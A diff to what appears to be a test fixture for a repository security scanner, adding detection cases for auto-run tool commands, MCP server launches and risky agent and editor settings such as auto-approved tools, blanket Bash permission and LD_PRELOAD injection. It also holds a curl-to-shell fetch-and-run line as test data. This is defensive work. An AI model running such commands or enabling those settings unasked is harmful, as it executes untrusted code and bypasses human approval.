@@ -16,6 +16,14 @@ def package(name, manager="pip"):
     return Reference("package", manager, name, "imported")
 
 
+def tool(when, command):
+    return Reference("tool.command", when, command, "called")
+
+
+def setting(key, value):
+    return Opens("tool.setting", value, key)
+
+
 FIRES = {
     "shell-runs-fetched": [
         ([command("curl -s https://a.example/x", "sh")], "high", "install.sh", "shell"),
@@ -61,6 +69,27 @@ FIRES = {
         ([Opens("git.place", "https://github.com/a/b", "url")], "low"),
         ([Opens("git.place", "evil", "filter")], "low"),
     ],
+    "tool-command": [
+        ([tool("folder-open", "make")], "high", ".vscode/tasks.json", "json"),
+        ([tool("agent-hook", "node x.js")], "medium"),
+        ([tool("container", "pip install x")], "low"),
+        ([tool("install", "node x.js")], "medium"),
+    ],
+    "tool-mcp-server": [
+        ([tool("mcp", "npx -y server")], "high"),
+        ([tool("mcp", "uvx server")], "high"),
+        ([tool("mcp", "sh -c x")], "high"),
+        ([tool("mcp", "npx -y server@1.2.3")], "medium"),
+        ([tool("mcp", "./server")], "medium"),
+    ],
+    "tool-setting": [
+        ([setting("task.allowAutomaticTasks", "on")], "high"),
+        ([setting("chat.tools.autoApprove", "True")], "high"),
+        ([setting("permissions.allow", "Bash(*)")], "high"),
+        ([setting("python.defaultInterpreterPath", "./bin/python")], "medium"),
+        ([setting("terminal.integrated.env.linux", "{'LD_PRELOAD': './x.so'}")], "medium"),
+        ([setting("privileged", "true")], "medium"),
+    ],
     "python-path-file": [([Anomaly("python.path-file", "line 1")], "medium")],
 }
 SILENT = {
@@ -84,5 +113,11 @@ SILENT = {
         ([source("https://download.pytorch.org/x.whl", "x")],),
     ],
     "package-lookalike": [([package("requests"), package("numpy"), package("scapy"), package("cattrs"), package("rich")],), ([package("requets", "apt")],)],
+    "tool-command": [([tool("task", "make"), tool("workflow", "make"), tool("service", "x")],)],
+    "tool-mcp-server": [([tool("agent-hook", "npx -y x")],)],
+    "tool-setting": [
+        ([setting("python.defaultInterpreterPath", ".venv/bin/python"), setting("permissions.allow", "Read(./x)")],),
+        ([setting("task.allowAutomaticTasks", "off"), setting("terminal.integrated.env.linux", "{'CUDA_HOME': '/x'}")],),
+    ],
     "git-place": [([Opens("git.place", "libs/x", "path")],)],
 }  # fmt: skip
